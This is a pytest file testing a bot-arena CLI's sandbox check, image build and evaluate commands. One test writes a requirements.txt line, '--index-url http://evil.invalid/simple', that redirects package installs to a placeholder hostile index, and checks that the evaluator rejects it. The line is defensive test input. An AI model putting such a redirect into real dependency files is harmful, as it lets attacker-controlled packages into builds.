"""`arena sandbox` commands (the engine-free parts; images/prune are exercised in test_images)."""

from __future__ import annotations

import json

import pytest
from typer.testing import CliRunner

from cli import app


def test_check_names_the_backend(monkeypatch):
    monkeypatch.setenv("ARENA_SANDBOX_BACKEND", "process")
    result = CliRunner().invoke(app, ["sandbox", "check", "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["backend"] == "process"
    assert json.loads(result.output)["isolated"] is False


def test_check_fails_when_the_configured_docker_cannot_run(monkeypatch):
    monkeypatch.delenv("ARENA_SANDBOX_BACKEND", raising=False)
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/arena-test-docker.sock")
    result = CliRunner().invoke(app, ["sandbox", "check", "--json"])
    assert result.exit_code == 1
    assert json.loads(result.output)["backend"] == "docker"
    assert json.loads(result.output)["docker"].startswith("no Docker engine answers")


@pytest.mark.docker
def test_build_without_the_base_image_fails_in_one_line(tmp_path, monkeypatch, docker_engine):
    monkeypatch.setenv("ARENA_BASE_IMAGE", "arena-base:does-not-exist")
    result = CliRunner().invoke(app, ["sandbox", "build", str(tmp_path)])
    assert result.exit_code != 0
    assert "error:" in result.output and "base image arena-base:does-not-exist is missing" in result.output


@pytest.mark.docker
def test_evaluate_reports_an_image_that_does_not_build_as_the_teams_error(tmp_path, docker_engine):
    """No traceback: one paragraph, the exit code of a team failure, and a result file saying why."""
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    team = tmp_path / "team"
    shutil.copytree(root / "examples" / "teams" / "night-owl", team)
    (team / "bot" / "requirements.txt").write_text("--index-url http://evil.invalid/simple\n")
    out = tmp_path / "result.json"
    run = subprocess.run([sys.executable, "-m", "cli", "evaluate", "--team-dir", str(team), "--sandbox", "docker",
                          "--data", str(root / "data" / "april15-may7_2023.csv"), "--start", "2023-05-01 00:05",
                          "--end", "2023-05-01 01:00", "--output", str(out)], capture_output=True, text=True, timeout=600)
    assert run.returncode == 1, run.stderr
    assert "Traceback" not in run.stdout + run.stderr
    result = json.loads(out.read_text())
    assert result["status"] == "error" and result["score"] is None
    assert "bot/requirements.txt line 1" in result["error"] and "is not supported" in result["error"]
